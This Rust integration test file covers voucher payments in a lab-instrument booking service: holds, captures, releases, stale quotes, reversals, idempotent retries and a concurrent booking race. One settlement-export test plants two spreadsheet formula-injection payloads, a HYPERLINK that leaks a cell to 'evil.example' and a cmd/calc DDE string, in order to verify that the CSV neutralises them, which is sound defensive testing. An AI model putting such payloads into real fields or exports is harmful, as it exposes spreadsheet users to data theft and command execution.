//! Paying with vouchers: the hold when a booking is requested, its release when the booking ends
//! unused, capture on the recorded use, quotes that no longer hold, reversals, a settlement line,
//! idempotent retries, and one voucher raced by fifty bookings.

use actix_web::http::{Method, StatusCode};
use chrono::{DateTime, Duration, DurationRound, Utc};
use diesel::prelude::*;
use serde_json::{Value, json};

use crate::bookings::enc;
use crate::harness::*;
use crate::on_both_backends;
use instrument_booking::db::schema::{bookings as b, voucher_ledger as vl};
use instrument_booking::error::ServiceError;

/// A Fudan instrument in Shanghai, open around the clock with no lead time: 600 yuan an hour
/// for enterprises, booked by the half hour.
pub(crate) async fn instrument(app: &TestApp, manager: &str, approval: &str) -> i64 {
    named_instrument(app, manager, approval, &format!("Fudan XRD {approval}")).await
}

pub(crate) async fn named_instrument(
    app: &TestApp,
    manager: &str,
    approval: &str,
    name: &str,
) -> i64 {
    let body = json!({"kind": "instrument", "name_en": name, "name_zh": "复旦X射线衍射仪",
        "category": "analytical", "original_value_cny": 3000000, "jurisdiction_code": "310100", "capacity": 1,
        "approval_policy": approval, "rates": {"internal": 10000, "academic": 30000, "enterprise": 60000},
        "booking_rules": {"granularity_min": 30, "lead_time_min": 0, "max_duration_min": 1440, "no_show_grace_min": 15, "cancel_lead_time_min": 0}});
    let made = app.post("/api/v1/resources", manager, body).await;
    assert_eq!(made.status, StatusCode::CREATED, "{:?}", made.body);
    let id = made.body["id"].as_i64().unwrap();
    app.open_around_the_clock(id, manager).await;
    id
}

pub(crate) fn next_half_hour() -> DateTime<Utc> {
    Utc::now().duration_trunc(Duration::minutes(30)).unwrap() + Duration::minutes(30)
}

pub(crate) async fn acme_js_voucher(app: &TestApp, t: &str) -> i64 {
    app.list_all("/api/v1/vouchers", t).await[0]["id"]
        .as_i64()
        .unwrap()
}

pub(crate) fn slot(start: DateTime<Utc>, hours: i64) -> (String, String) {
    (
        start.to_rfc3339(),
        (start + Duration::hours(hours)).to_rfc3339(),
    )
}

pub(crate) async fn quote(
    app: &TestApp,
    t: &str,
    resource: i64,
    s: &(String, String),
    voucher: i64,
) -> Value {
    let path = format!(
        "/api/v1/resources/{resource}/quote?start={}&end={}&voucher_id={voucher}",
        enc(&s.0),
        enc(&s.1)
    );
    let q = app.get(&path, t).await;
    assert_eq!(q.status, StatusCode::OK, "{:?}", q.body);
    q.body
}

pub(crate) fn paid_booking(
    resource: i64,
    s: &(String, String),
    voucher: i64,
    accepted: i64,
) -> Value {
    json!({"resource_id": resource, "start": s.0, "end": s.1, "purpose": "phase analysis of a new alloy",
        "voucher_id": voucher, "accepted_co_payment_fen": accepted})
}

/// Books, expecting it to succeed.
pub(crate) async fn book(app: &TestApp, t: &str, body: Value) -> Response {
    let made = app.post("/api/v1/bookings", t, body).await;
    assert_eq!(made.status, StatusCode::CREATED, "{:?}", made.body);
    made
}

pub(crate) async fn available(app: &TestApp, t: &str, voucher: i64) -> i64 {
    let v = app.get(&format!("/api/v1/vouchers/{voucher}"), t).await;
    v.body["balance"]["available"].as_i64().unwrap()
}

/// The voucher's ledger as (movement, amount, booking, reason).
pub(crate) async fn ledger(
    app: &TestApp,
    t: &str,
    voucher: i64,
) -> Vec<(String, i64, Option<i64>, String)> {
    app.list_all(&format!("/api/v1/vouchers/{voucher}/ledger"), t)
        .await
        .iter()
        .map(|e| {
            (
                e["movement"].as_str().unwrap().to_owned(),
                e["amount_fen"].as_i64().unwrap(),
                e["booking_id"].as_i64(),
                e["reason"].as_str().unwrap_or("").to_owned(),
            )
        })
        .collect()
}

pub(crate) fn rows(app: &TestApp) -> (i64, i64) {
    app.db
        .read_blocking(|c| {
            let bookings: i64 = b::table.count().get_result(c)?;
            let lines: i64 = vl::table.count().get_result(c)?;
            Ok::<_, ServiceError>((bookings, lines))
        })
        .unwrap()
}

async fn a_voucher_pays_its_share_held_then_captured_on_use(app: TestApp) {
    let (m, t) = (app.login(MANAGER).await, app.login(BOOKER).await);
    let xrd = instrument(&app, &m, "auto").await;
    let voucher = acme_js_voucher(&app, &t).await;
    let s = slot(next_half_hour(), 1);
    let q = quote(&app, &t, xrd, &s, voucher).await;
    assert_eq!(
        (q["gross_fen"].as_i64(), q["co_payment_fen"].as_i64()),
        (Some(60_000), Some(30_000))
    );
    let made = book(&app, &t, paid_booking(xrd, &s, voucher, 30_000)).await;
    let id = made.body["id"].as_i64().unwrap();
    let p = &made.body["payment"];
    assert_eq!(p["customer_category"], "enterprise");
    assert_eq!(
        (p["gross_fen"].as_i64(), p["voucher_share_fen"].as_i64()),
        (Some(60_000), Some(30_000))
    );
    assert_eq!(p["voucher_id"], voucher);
    assert_eq!(available(&app, &t, voucher).await, 270_000);

    let checked_in = app
        .post(&format!("/api/v1/bookings/{id}/check-in"), &m, json!({}))
        .await;
    assert_eq!(checked_in.status, StatusCode::OK, "{:?}", checked_in.body);
    // The user arrived 50 minutes ago (the booking has been moved back in time for the test)
    // and left 5 minutes ago; the operator records the departure late.
    let arrived = (Utc::now() - Duration::minutes(50)).naive_utc();
    let left = (arrived + Duration::minutes(45)).and_utc();
    app.db
        .write_blocking(|c| {
            diesel::update(b::table.find(id))
                .set(b::check_in_at.eq(arrived))
                .execute(c)
                .map_err(ServiceError::from)
        })
        .unwrap();
    let check_out = format!("/api/v1/bookings/{id}/check-out");
    for bad in [
        left + Duration::minutes(10),
        arrived.and_utc() - Duration::minutes(1),
    ] {
        let r = app
            .post(&check_out, &m, json!({"at": bad.to_rfc3339()}))
            .await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{:?}", r.body);
        assert_eq!(r.body["errors"][0]["field"], "at");
    }
    let garbage = app.post(&check_out, &m, json!({"when": "soon"})).await;
    assert_eq!(garbage.code(), "invalid_body");
    let out = app
        .post(&check_out, &m, json!({"at": left.to_rfc3339()}))
        .await;
    assert_eq!(out.status, StatusCode::OK, "{:?}", out.body);
    let p = &out.body["payment"];
    assert_eq!(
        p["final_gross_fen"], 45_000,
        "45 minutes at 600 yuan an hour"
    );
    assert_eq!(p["final_voucher_fen"], 22_500, "half, never more than held");
    assert_eq!(p["final_co_payment_fen"], 22_500);
    assert_eq!(available(&app, &t, voucher).await, 277_500);
    let moves: Vec<(String, i64)> = ledger(&app, &t, voucher)
        .await
        .into_iter()
        .map(|(m, a, _, _)| (m, a))
        .collect();
    assert_eq!(
        moves[1..],
        [
            ("hold".to_owned(), 30_000),
            ("capture".to_owned(), 22_500),
            ("release".to_owned(), 7_500)
        ]
    );
    settle_and_reverse(&app, voucher, id).await;
}

/// The capture on the statements of the provider and an admin, then reversed.
async fn settle_and_reverse(app: &TestApp, voucher: i64, booking: i64) {
    let (m, admin, t) = (
        app.login(MANAGER).await,
        app.login(ADMIN).await,
        app.login(BOOKER).await,
    );
    let today = (Utc::now() + Duration::hours(8)).date_naive();
    let period = format!("/api/v1/settlements?from={today}&to={today}");
    let fudan = app.get(&period, &m).await;
    assert_eq!(fudan.status, StatusCode::OK, "{:?}", fudan.body);
    let line = &fudan.body["lines"][0];
    assert_eq!(line["booking_id"], booking);
    assert_eq!(
        (
            line["issuer_province"].as_str(),
            line["provider_province"].as_str()
        ),
        (Some("JS"), Some("SH"))
    );
    assert_eq!(line["amount_fen"], 22_500);
    assert_eq!(
        fudan.body["totals"],
        json!([{"issuer_province": "JS", "provider_province": "SH", "amount_fen": 22_500, "lines": 1}])
    );
    // Names that a spreadsheet would run as formulas reach the CSV as plain text.
    let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
    rename_resource(app, &m, line["resource_id"].as_i64().unwrap(), evil).await;
    let acme = format!("/api/v1/organizations/{}", line["enterprise_id"]);
    let renamed = app
        .request(
            Method::PATCH,
            &acme,
            Some(&admin),
            Some(json!({"name_en": "@SUM(1+1)*cmd|' /C calc'!A0"})),
        )
        .await;
    assert_eq!(renamed.status, StatusCode::OK, "{:?}", renamed.body);
    let csv = app.get(&format!("{period}&format=csv"), &m).await;
    let text = csv.body.as_str().unwrap().to_owned();
    assert!(
        text.starts_with("\u{feff}entry_id,at,kind,amount_fen,booking_id"),
        "{text}"
    );
    assert!(text.contains(",total,22500,"), "{text}");
    let cells = crate::exports::cells(&text);
    assert!(cells.iter().any(|c| c == &format!("'{evil}")), "{text}");
    crate::exports::assert_no_formula(&cells);
    assert_eq!(app.get(&period, &t).await.status, StatusCode::FORBIDDEN);
    let sh_issuer = app.login(ISSUER).await;
    assert_eq!(
        app.get(&period, &sh_issuer).await.body["lines"],
        json!([]),
        "not Shanghai's money"
    );

    let capture = app
        .list_all(&format!("/api/v1/vouchers/{voucher}/ledger"), &t)
        .await
        .into_iter()
        .find(|e| e["movement"] == "capture")
        .unwrap()["id"]
        .as_i64()
        .unwrap();
    let path = format!("/api/v1/vouchers/{voucher}/ledger/{capture}/reversal");
    let why = json!({"reason": "the operator checked out the wrong booking"});
    assert_eq!(
        app.post(&path, &sh_issuer, why.clone()).await.status,
        StatusCode::NOT_FOUND
    );
    let key = [("Idempotency-Key", "reverse-once")];
    let reversed = app
        .request_with(Method::POST, &path, Some(&admin), Some(why.clone()), &key)
        .await;
    assert_eq!(reversed.status, StatusCode::CREATED, "{:?}", reversed.body);
    assert_eq!(reversed.body["reverses_id"], capture);
    assert_eq!(
        reversed.body["reason"],
        "the operator checked out the wrong booking"
    );
    let replayed = app
        .request_with(Method::POST, &path, Some(&admin), Some(why.clone()), &key)
        .await;
    assert_eq!(replayed.body, reversed.body, "the same key replays");
    assert_eq!(
        app.post(&path, &admin, why).await.status,
        StatusCode::CONFLICT,
        "reversed once"
    );
    assert_eq!(available(app, &t, voucher).await, 300_000);
    let after = app.get(&period, &m).await;
    assert_eq!(after.body["lines"][1]["amount_fen"], -22_500);
    assert_eq!(after.body["total_fen"], 0);
}

async fn a_quote_that_no_longer_holds_is_409_and_writes_nothing(app: TestApp) {
    let (m, t) = (app.login(MANAGER).await, app.login(BOOKER).await);
    let xrd = instrument(&app, &m, "auto").await;
    let voucher = acme_js_voucher(&app, &t).await;
    let small = slot(next_half_hour() + Duration::hours(24), 1);
    let accepted = quote(&app, &t, xrd, &small, voucher).await["co_payment_fen"]
        .as_i64()
        .unwrap();
    assert_eq!(accepted, 30_000);
    // Meanwhile a ten-hour booking takes the whole balance.
    let big = slot(next_half_hour() + Duration::hours(48), 10);
    book(&app, &t, paid_booking(xrd, &big, voucher, 300_000)).await;
    assert_eq!(available(&app, &t, voucher).await, 0);

    let before = rows(&app);
    let refused = app
        .post(
            "/api/v1/bookings",
            &t,
            paid_booking(xrd, &small, voucher, accepted),
        )
        .await;
    assert_eq!(refused.status, StatusCode::CONFLICT);
    assert_eq!(refused.code(), "quote_changed");
    assert_eq!(refused.body["quote"]["co_payment_fen"], 60_000);
    assert_eq!(
        refused.body["quote"]["voucher"]["limited_by"],
        "remaining_balance"
    );
    assert_eq!(rows(&app), before, "nothing written");

    let fresh = book(&app, &t, paid_booking(xrd, &small, voucher, 60_000)).await;
    assert_eq!(
        fresh.body["payment"]["voucher_id"],
        Value::Null,
        "nothing to hold"
    );
    assert_eq!(fresh.body["payment"]["co_payment_fen"], 60_000);
}

async fn bad_payment_requests_are_refused_precisely(app: TestApp) {
    let (m, t) = (app.login(MANAGER).await, app.login(BOOKER).await);
    let xrd = instrument(&app, &m, "auto").await;
    let voucher = acme_js_voucher(&app, &t).await;
    let s = slot(next_half_hour() + Duration::hours(24), 1);
    let before = rows(&app);
    let mut no_accepted = paid_booking(xrd, &s, voucher, 0);
    no_accepted
        .as_object_mut()
        .unwrap()
        .remove("accepted_co_payment_fen");
    let mut no_voucher = paid_booking(xrd, &s, voucher, 0);
    no_voucher.as_object_mut().unwrap().remove("voucher_id");
    let mut inspection = paid_booking(xrd, &s, voucher, 30_000);
    inspection["purpose_kind"] = json!("commercial_inspection");
    for (body, field) in [
        (no_accepted, "accepted_co_payment_fen"),
        (no_voucher, "voucher_id"),
        (
            paid_booking(xrd, &s, voucher, -1),
            "accepted_co_payment_fen",
        ),
        (paid_booking(xrd, &s, 999_999, 30_000), "voucher_id"),
    ] {
        let r = app.post("/api/v1/bookings", &t, body).await;
        assert_eq!(r.status, StatusCode::UNPROCESSABLE_ENTITY, "{:?}", r.body);
        assert_eq!(r.body["errors"][0]["field"], field);
    }
    let r = app.post("/api/v1/bookings", &t, inspection).await;
    assert_eq!(r.code(), "quote_changed");
    assert_eq!(
        r.body["quote"]["voucher"]["limited_by"],
        "ineligible_purpose"
    );
    assert_eq!(rows(&app), before, "nothing written");
}

async fn holds_are_released_when_bookings_end_unused(app: TestApp) {
    let (m, t) = (app.login(MANAGER).await, app.login(BOOKER).await);
    let auto = instrument(&app, &m, "auto").await;
    let manual = instrument(&app, &m, "manual").await;
    let voucher = acme_js_voucher(&app, &t).await;
    let base = next_half_hour() + Duration::hours(3);
    let book = |resource: i64, hours_ahead: i64| {
        let s = slot(base + Duration::hours(hours_ahead), 1);
        let (app, t) = (&app, t.clone());
        async move {
            let r = book(app, &t, paid_booking(resource, &s, voucher, 30_000)).await;
            (
                r.body["id"].as_i64().unwrap(),
                r.body["state"].as_str().unwrap().to_owned(),
            )
        }
    };
    let (cancelled, _) = book(auto, 0).await;
    let (rejected, state) = book(manual, 0).await;
    assert_eq!(state, "pending", "held while the operator decides");
    let (lapsing, _) = book(manual, 2).await;
    let (no_show, _) = book(auto, 2).await;
    let mut behind = paid_booking(auto, &slot(base + Duration::hours(2), 1), voucher, 30_000);
    behind["waitlist"] = json!(true);
    let waiting = app.post("/api/v1/bookings", &t, behind).await;
    assert_eq!(waiting.body["state"], "waitlisted", "{:?}", waiting.body);
    let waiting = waiting.body["id"].as_i64().unwrap();
    assert_eq!(available(&app, &t, voucher).await, 300_000 - 5 * 30_000);

    let why = json!({"reason": "plans changed"});
    let c = app
        .post(
            &format!("/api/v1/bookings/{cancelled}/cancel"),
            &t,
            why.clone(),
        )
        .await;
    assert_eq!(c.status, StatusCode::OK, "{:?}", c.body);
    let r = app
        .post(&format!("/api/v1/bookings/{rejected}/reject"), &m, why)
        .await;
    assert_eq!(r.status, StatusCode::OK, "{:?}", r.body);
    // Past the pending request's deadline and the other's no-show grace, the jobs end both.
    let later = base + Duration::hours(2) + Duration::minutes(20);
    instrument_booking::jobs::bookings::run(&app.db, later).unwrap();
    for id in [lapsing, no_show, waiting] {
        let state = app.get(&format!("/api/v1/bookings/{id}"), &t).await.body["state"].clone();
        assert!(state == "expired" || state == "no_show", "{state}");
    }
    assert_eq!(available(&app, &t, voucher).await, 300_000);
    let mut releases: Vec<(i64, String)> = ledger(&app, &t, voucher)
        .await
        .into_iter()
        .filter(|(m, ..)| m == "release")
        .map(|(_, _, booking, reason)| (booking.unwrap(), reason))
        .collect();
    releases.sort();
    assert_eq!(
        releases,
        vec![
            (cancelled, "cancelled".to_owned()),
            (rejected, "rejected".to_owned()),
            (lapsing, "no decision before the deadline".to_owned()),
            (no_show, "no-show".to_owned()),
            (
                waiting,
                "no space became free before the slot began".to_owned()
            ),
        ]
    );
}

/// Fifty bookings at once, on two servers, each wanting 30 000 fen of a 300 000 fen voucher:
/// ten get their hold, forty are refused with a fresh quote, and the ledger audited in SQL agrees.
async fn fifty_bookings_race_for_one_voucher(app: TestApp) {
    let (m, t) = (app.login(MANAGER).await, app.login(BOOKER).await);
    let mut resources = Vec::new();
    for n in 0..5 {
        resources.push(named_instrument(&app, &m, "auto", &format!("Fudan XRD {n}")).await);
    }
    let voucher = acme_js_voucher(&app, &t).await;
    let (second, _handle) = app.second_server();
    let base = next_half_hour() + Duration::hours(24);
    let sends = (0..50).map(|i| {
        let s = slot(base + Duration::hours(i / 5), 1);
        let body = paid_booking(resources[i as usize % 5], &s, voucher, 30_000);
        let server = if i % 2 == 0 {
            app.base.clone()
        } else {
            second.clone()
        };
        let (app, t) = (&app, t.clone());
        async move {
            app.request_at(
                &server,
                Method::POST,
                "/api/v1/bookings",
                Some(&t),
                Some(body),
                &[],
            )
            .await
        }
    });
    let answers = futures_util::future::join_all(sends).await;
    let won: Vec<(i64, i64)> = answers
        .iter()
        .filter(|r| r.status == StatusCode::CREATED)
        .map(|r| {
            (
                r.body["id"].as_i64().unwrap(),
                r.body["payment"]["voucher_share_fen"].as_i64().unwrap(),
            )
        })
        .collect();
    assert_eq!(won.len(), 10, "the balance covers ten");
    assert!(won.iter().all(|(_, share)| *share == 30_000));
    for lost in answers.iter().filter(|r| r.status != StatusCode::CREATED) {
        assert_eq!(lost.code(), "quote_changed", "{:?}", lost.body);
        assert_eq!(
            lost.body["quote"]["voucher"]["limited_by"],
            "remaining_balance"
        );
    }
    audit_ledger(&app, &t, voucher, &won).await;
}

/// Recomputes the voucher's balance from its ledger rows in SQL and compares it with the API's,
/// and checks one hold per winning booking, each for its share, and none for anyone else.
async fn audit_ledger(app: &TestApp, t: &str, voucher: i64, won: &[(i64, i64)]) {
    let (available_sql, holds): (i64, Vec<(Option<i64>, i64)>) = app
        .db
        .read_blocking(|c| {
            let signed: Vec<(String, i64)> = vl::table
                .filter(vl::voucher_id.eq(voucher))
                .select((vl::movement, vl::amount_fen))
                .load(c)?;
            let available = signed
                .iter()
                .map(|(m, a)| match m.as_str() {
                    "grant" | "release" => *a,
                    "hold" | "expire" => -*a,
                    // A capture spends what its hold already took; no reversals here.
                    _ => 0,
                })
                .sum();
            let holds = vl::table
                .filter(vl::voucher_id.eq(voucher))
                .filter(vl::movement.eq("hold"))
                .select((vl::booking_id, vl::amount_fen))
                .order(vl::booking_id)
                .load(c)?;
            Ok::<_, ServiceError>((available, holds))
        })
        .unwrap();
    assert_eq!(available_sql, 0);
    assert_eq!(available(app, t, voucher).await, available_sql);
    let mut expected: Vec<(Option<i64>, i64)> =
        won.iter().map(|(id, share)| (Some(*id), *share)).collect();
    expected.sort();
    assert_eq!(
        holds, expected,
        "one hold per winning booking, for its share"
    );
    assert!(holds.iter().map(|(_, a)| a).sum::<i64>() <= 300_000);
}

/// A retried cancellation with the same key answers as the first did, instead of a 409.
async fn a_retried_cancellation_replays(app: TestApp) {
    let (m, t) = (app.login(MANAGER).await, app.login(BOOKER).await);
    let xrd = instrument(&app, &m, "auto").await;
    let voucher = acme_js_voucher(&app, &t).await;
    let s = slot(next_half_hour() + Duration::hours(24), 1);
    let id = book(&app, &t, paid_booking(xrd, &s, voucher, 30_000))
        .await
        .body["id"]
        .as_i64()
        .unwrap();
    let path = format!("/api/v1/bookings/{id}/cancel");
    let why = json!({"reason": "the sample did not arrive"});
    let key = [("Idempotency-Key", "cancel-1")];
    let cancel = || app.request_with(Method::POST, &path, Some(&t), Some(why.clone()), &key);
    let first = cancel().await;
    let again = cancel().await;
    assert_eq!(first.status, StatusCode::OK, "{:?}", first.body);
    assert_eq!((again.status, &again.body), (first.status, &first.body));
    let other = app
        .request_with(
            Method::POST,
            &path,
            Some(&t),
            Some(json!({"reason": "other"})),
            &key,
        )
        .await;
    assert_eq!(other.code(), "idempotency_key_reused");
    let releases = ledger(&app, &t, voucher)
        .await
        .iter()
        .filter(|(m, ..)| m == "release")
        .count();
    assert_eq!(releases, 1, "released once");
}

/// Checked in, never checked out: half an hour after its end the job completes it on the use
/// until the end, and the voucher pays its share.
async fn a_forgotten_check_out_completes_at_the_end(app: TestApp) {
    let (m, t) = (app.login(MANAGER).await, app.login(BOOKER).await);
    let xrd = instrument(&app, &m, "auto").await;
    let voucher = acme_js_voucher(&app, &t).await;
    let start = next_half_hour();
    let made = book(
        &app,
        &t,
        paid_booking(xrd, &slot(start, 1), voucher, 30_000),
    )
    .await;
    let id = made.body["id"].as_i64().unwrap();
    let path = format!("/api/v1/bookings/{id}/check-in");
    assert_eq!(app.post(&path, &m, json!({})).await.status, StatusCode::OK);
    app.db
        .write_blocking(|c| {
            diesel::update(b::table.find(id))
                .set(b::check_in_at.eq(start.naive_utc()))
                .execute(c)
                .map_err(ServiceError::from)
        })
        .unwrap();
    let end = start + Duration::hours(1);
    let run = |now| {
        instrument_booking::jobs::bookings::run(&app.db, now)
            .unwrap()
            .completed
    };
    assert_eq!(run(end + Duration::minutes(29)), 0, "not yet");
    assert_eq!(run(end + Duration::minutes(30)), 1);
    assert_eq!(run(end + Duration::minutes(31)), 0, "once");
    let done = app.get(&format!("/api/v1/bookings/{id}"), &t).await.body;
    assert_eq!(done["state"], "completed");
    assert_eq!(
        done["check_out_at"],
        json!(end.to_rfc3339_opts(chrono::SecondsFormat::Secs, true))
    );
    assert_eq!(done["payment"]["final_gross_fen"], 60_000);
    assert_eq!(done["payment"]["final_voucher_fen"], 30_000);
    let last = ledger(&app, &t, voucher).await.pop().unwrap();
    assert_eq!((last.0.as_str(), last.1), ("capture", 30_000));
}

on_both_backends!(
    a_forgotten_check_out_completes_at_the_end,
    a_retried_cancellation_replays,
    fifty_bookings_race_for_one_voucher,
    a_voucher_pays_its_share_held_then_captured_on_use,
    a_quote_that_no_longer_holds_is_409_and_writes_nothing,
    bad_payment_requests_are_refused_precisely,
    holds_are_released_when_bookings_end_unused
);

async fn rename_resource(app: &TestApp, manager: &str, id: i64, name: &str) {
    let path = format!("/api/v1/resources/{id}");
    let etag = app.get(&path, manager).await.header("etag").unwrap();
    let resp = app
        .request_with(
            Method::PATCH,
            &path,
            Some(manager),
            Some(json!({"name_en": name})),
            &[("If-Match", &etag)],
        )
        .await;
    assert_eq!(resp.status, StatusCode::OK, "{:?}", resp.body);
}
